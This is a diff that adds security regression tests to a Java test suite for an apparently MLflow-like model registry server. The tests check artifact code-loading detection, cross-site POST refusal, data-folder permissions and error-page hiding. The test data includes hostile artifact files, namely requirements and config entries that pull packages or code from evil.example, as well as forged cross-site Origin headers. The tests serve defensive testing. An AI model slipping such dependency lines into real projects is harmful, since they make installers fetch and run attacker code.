@@ -1,6 +1,7 @@
 package dev.redoubt.server;
 
 import static org.assertj.core.api.Assertions.assertThat;
+import static org.assertj.core.api.Assertions.assertThatThrownBy;
 
 import com.sun.net.httpserver.HttpServer;
 import dev.redoubt.registry.access.Persona;
@@ -216,6 +217,43 @@ class AdvisoriesTest {
     assertThat(trace).doesNotExist();
   }
 
+  static List<List<String>> hiddenCode() {
+    return List.of(
+        List.of(
+            "requirements.txt", "numpy (>=1.0)\n--extra-index-url https://evil.example/simple\n"),
+        List.of("requirements.txt", "numpy (>=1.0)\nevil @ git+https://evil.example/evil\n"),
+        List.of("requirements.txt", "numpy (>=1.0)\n-e .\n"),
+        List.of("requirements.txt", "numpy (>=1.0)\nhttps://evil.example/evil.whl\n"),
+        List.of("constraints.txt", "# words\u2028-i https://evil.example/simple\n"),
+        List.of("conda.yaml", "{dependencies: [{pip: [\"numpy (>=1.0)\", \"-e .\"]}]}"),
+        List.of("python_env.yaml", "dependencies:\n- evil @ https://evil.example/evil.whl\n"),
+        List.of("pyproject.toml", "[build-system]\nrequires = []\nbackend-path = [\".\"]\n"),
+        List.of("modules.json", "[{\"path\": \"\", \"type\": \"evil.Net\"}]"),
+        List.of("model_index.json", "{\"_class_name\": \"owner/evil\"}"),
+        List.of(
+            "adapter_config.json",
+            "{\"auto_mapping\": {\"base_model_class\": \"Net\", \"parent_library\": \"evil\"}}"),
+        List.of("MAR-INF/MANIFEST.json", "{\"model\": {\"modelFile\": \"evil.py\"}}"),
+        List.of("config.json", "{\"model_file\": \"evil.py\"}"),
+        List.of("config.json", "{\"_attn_implementation_internal\": \"owner/evil\"}"),
+        List.of("sitecustomize.py", "x = 1\n"),
+        List.of("data/pickle_module_info.txt", "evil"));
+  }
+
+  /// CVE-2026-4372 and its neighbours: code that installs or loads because of a name or a value.
+  @ParameterizedTest
+  @MethodSource("hiddenCode")
+  void codeNamedByData(List<String> file) {
+    HttpRequest.Builder put = HttpRequest.newBuilder().PUT(BodyPublishers.ofString(file.get(1)));
+    String path = FILES + "0/" + run + "/artifacts/model/" + file.get(0);
+    assertThat(server.send(put, path, "Authorization", "Bearer " + alice).statusCode())
+        .isEqualTo(200);
+    assertThat(register().get("status").asString()).isEqualTo("READY");
+    JsonNode evidence =
+        server.done(alice, "GET", "/api/redoubt/models/credit/versions/1", "").get("evidence");
+    assertThat(evidence.toString()).contains("suspicious", file.get(0));
+  }
+
   /// CVE-2025-15381 and its neighbours: what belongs to somebody else.
   @Test
   void objectLevelAuthorization() {
@@ -412,6 +450,39 @@ class AdvisoriesTest {
     assertThat(server.raw(request, authorization)).startsWith("HTTP/1.1 400");
   }
 
+  /// CVE-2025-1473 and its neighbours: a page of somebody else makes a browser send a form, to
+  /// which the browser adds the cookie of whoever is signed in.
+  @ParameterizedTest
+  @ValueSource(
+      strings = {
+        "Sec-Fetch-Site: cross-site",
+        "Sec-Fetch-Site: same-site",
+        "Origin: null",
+        "Origin: https://evil.example",
+        "Referer: https://evil.example/"
+      })
+  void crossSitePost(String said) {
+    String cookie = "Cookie: redoubt=" + alice;
+    String ours = "Host: " + server.address().getAuthority();
+    for (String path : List.of("experiments/delete", "runs/create", "registered-models/create")) {
+      String reply =
+          server.raw(
+              "POST " + API + path + " HTTP/1.1",
+              ours,
+              cookie,
+              said,
+              "Content-Type: text/plain",
+              "Content-Length: 0");
+      assertThat(reply).as(path).startsWith("HTTP/1.1 403");
+    }
+    for (String path : List.of("/sign-in?token=" + mallory, "/sign-out")) {
+      assertThat(server.raw("POST " + path + " HTTP/1.1", ours, said, "Content-Length: 0"))
+          .as(path)
+          .startsWith("HTTP/1.1 403")
+          .doesNotContain("Set-Cookie");
+    }
+  }
+
   /// CVE-2026-2393, GHSA-wxj7-3fx5-pp9m: an address that the server is made to call.
   @Test
   void requestForgery() throws IOException {
@@ -496,6 +567,30 @@ class AdvisoriesTest {
       }
     }
     assertThat(temporaryFilesWith(MARK, start)).isEmpty();
+  }
+
+  /// Parameters, tags and descriptions are rows, which are not encrypted: nobody else of the
+  /// machine may open the database or anything beside it, also where the folder was there and was
+  /// open.
+  @Test
+  void worldReadableDataFolder() throws IOException {
+    Path open = Files.createDirectory(folder.resolve("open"));
+    Files.setPosixFilePermissions(open, PosixFilePermissions.fromString("rwxr-xr-x"));
+    try (LocalServer other = new LocalServer(open)) {
+      String who = other.token("alice", Persona.DATA_SCIENTIST);
+      other.done(who, "POST", API + "experiments/create", "{'name':'" + MARK + "'}");
+      try (Stream<Path> all = Files.walk(open)) {
+        for (Path each : all.toList()) {
+          assertThat(PosixFilePermissions.toString(Files.getPosixFilePermissions(each)))
+              .as(each.toString())
+              .isEqualTo(Files.isDirectory(each) ? "rwx------" : "rw-------");
+        }
+      }
+    }
+    Files.setPosixFilePermissions(open, PosixFilePermissions.fromString("rwxrwxrwx"));
+    assertThatThrownBy(() -> new LocalServer(open).close())
+        .isInstanceOf(IOException.class)
+        .hasMessageContaining("can be changed by others");
   }
 
   /// Files of this machine's temporary folder that are younger and hold a text.
@@ -792,6 +887,26 @@ class AdvisoriesTest {
     assertThat(read.headers().firstValue("X-Content-Type-Options")).contains("nosniff");
     assertThat(read.headers().firstValue("Content-Security-Policy").orElse(""))
         .contains("default-src 'none'", "sandbox");
+  }
+
+  /// What the listener refuses by itself: a page of Tomcat's tells what listens, and in which
+  /// version.
+  @ParameterizedTest
+  @ValueSource(
+      strings = {
+        "GET /%zz HTTP/1.1",
+        "GET /a|b HTTP/1.1",
+        "GET / HTTP/9.9",
+        "G<T / HTTP/1.1",
+        "TRACE / HTTP/1.1",
+        "CONNECT a:1 HTTP/1.1"
+      })
+  void pagesOfTomcat(String line) {
+    String reply = server.raw(line, "Host: localhost");
+    assertThat(reply)
+        .contains("\"error_code\"", "X-Content-Type-Options: nosniff", "Cache-Control: no-store")
+        .doesNotContainIgnoringCase("<html")
+        .doesNotContainIgnoringCase("tomcat");
   }
 
   /// CVE-2025-0453 and doors that MLflow's server has beside its protocol.
